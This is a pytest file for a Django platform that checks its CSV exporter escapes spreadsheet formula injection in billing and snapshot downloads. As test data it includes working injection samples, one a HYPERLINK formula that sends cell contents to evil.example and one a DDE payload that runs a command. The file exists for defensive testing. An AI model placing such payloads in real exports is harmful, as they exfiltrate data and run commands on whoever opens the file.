"""The platform's one CSV writer neutralises spreadsheet formulas (OWASP): every text
cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe;
whole and decimal numbers pass untouched. Tested on the writer and on each export."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.core import mail
from django.urls import reverse

from campaign.csv_export import csv_response, csv_text, safe_cell

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-5",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("text", PLANTED)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -5, 12, 3.5, -0.25, Decimal("-12.50")])
def test_numbers_pass_untouched(value):
    assert safe_cell(value) == value


def test_ordinary_text_and_empty_cells_pass(value="May newsletter"):
    assert safe_cell(value) == value
    assert safe_cell(None) == "" and safe_cell("") == ""


def test_the_writer_and_the_streamed_download_escape_every_cell():
    rows = [[text, -5, 1.5] for text in PLANTED]
    for text in (
        csv_text(["label", "n", "x"], rows),
        b"".join(csv_response("x.csv", ["label", "n", "x"], rows)).decode(),
    ):
        parsed = list(csv.reader(io.StringIO(text)))
        assert parsed[0] == ["label", "n", "x"]
        assert all(row[0].startswith("'") for row in parsed[1:])
        assert all(row[1:] == ["-5", "1.5"] for row in parsed[1:])


def test_a_planted_delivery_label_reaches_the_billing_attachments_escaped(world, settings):
    import time_machine
    from django.contrib.auth import get_user_model

    from reporting.models import BillingReport
    from workflows.api import RunStatus, Trigger, get_spec
    from workflows.engine import execute

    get_user_model().objects.filter(username="billing").update(email="billing@example.com")
    ids = world.recipients(150)
    planted = world.delivery(label=PLANTED[0], started_at=datetime(2026, 5, 2, tzinfo=UTC))
    world.logs(planted, ids, datetime(2026, 5, 2, 9, tzinfo=UTC))
    sms = world.delivery("sms", label="@SUM(A1:A9)", started_at=datetime(2026, 5, 3, tzinfo=UTC))
    world.logs(sms, ids[:3], datetime(2026, 5, 3, 9, tzinfo=UTC))
    with time_machine.travel(datetime(2026, 5, 24, 22, 0, 10, tzinfo=UTC), tick=False):
        run = execute(get_spec("billing"), trigger=Trigger.MANUAL)
    assert run.status == RunStatus.SUCCEEDED, run.error
    assert BillingReport.objects.count() == 1
    attachments = {name: content for name, content, _ in mail.outbox[0].attachments}
    email_rows = list(csv.reader(io.StringIO(attachments["email-deliveries.csv"])))
    sms_rows = list(csv.reader(io.StringIO(attachments["sms-deliveries.csv"])))
    assert email_rows[1][1] == "'" + PLANTED[0] and email_rows[1][4] == "150"
    assert sms_rows[1][1] == "'@SUM(A1:A9)"


def test_the_snapshot_export_goes_through_the_writer(client, make_operator, world):
    from reporting import activity

    world.logs(world.delivery(), world.recipients(2), datetime.now(UTC) - timedelta(days=1))
    activity.bring_up_to_date(datetime.now(UTC), 12)
    activity.snapshot(datetime.now(UTC), 12)
    client.force_login(make_operator("rita", groups=["Report readers"]))
    response = client.get(reverse("reporting:snapshots_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][0] == "computed_at" and rows[1][4] == "2"
